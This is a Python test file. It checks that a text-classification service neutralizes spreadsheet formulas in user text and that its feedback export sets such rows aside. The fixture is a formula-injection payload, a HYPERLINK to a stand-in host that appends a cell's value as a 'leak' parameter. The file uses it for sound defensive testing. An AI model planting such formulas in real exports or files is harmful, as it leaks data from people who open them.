"""Files textops writes from live traffic never carry a spreadsheet formula where it would run or stall a retrain:
the feedback export sets such rows aside (the ingest refuses a file holding one), the label queue's CSV shows them
with a leading apostrophe."""

from __future__ import annotations

import json

import pandas as pd

from textops.core.config import Params
from textops.core.formulas import is_formula, neutralized
from textops.live.feedback import FeedbackLog, export

FORMULA_TEXT = '=HYPERLINK("http://example.invalid/?leak="&A1, "click")'


def test_neutralized_shows_formulas_and_leaves_other_texts_alone():
    assert is_formula(FORMULA_TEXT) and neutralized(FORMULA_TEXT) == "'" + FORMULA_TEXT
    assert neutralized("a fine film") == "a fine film"
    assert neutralized("-5 stars, would not watch again") == "-5 stars, would not watch again"
    assert neutralized(None) is None


def test_the_feedback_export_sets_formula_rows_aside_and_keeps_the_rest(tmp_path):
    params = Params()
    logs = tmp_path / params.serve.request_log_dir
    rows = [
        {
            "time": f"2026-12-07T08:{i // 60:02d}:{i % 60:02d}.000Z",
            "request_id": f"r{i}",
            "index": 0,
            "label": "positive" if i % 2 else "negative",
            "text": f"review number {i}",
        }
        for i in range(100)
    ]
    rows[41]["text"] = FORMULA_TEXT
    FeedbackLog(logs, 1_000_000).append(rows)

    result = export(tmp_path, params, tmp_path / "landing" / "feedback.csv")
    assert result["rows"] == 99 and result["set_aside"] == 1
    kept = pd.read_csv(result["output"])
    assert len(kept) == 99 and FORMULA_TEXT not in set(kept["text"])
    aside = [json.loads(line) for line in open(result["set_aside_file"], encoding="utf-8")]
    assert [(r["request_id"], r["text"]) for r in aside] == [("r41", FORMULA_TEXT)] and "formula" in aside[0]["reason"]
    again = export(tmp_path, params, tmp_path / "landing" / "feedback-2.csv")
    assert again["rows"] == 0 and again["set_aside"] == 0  # exported once, set aside once
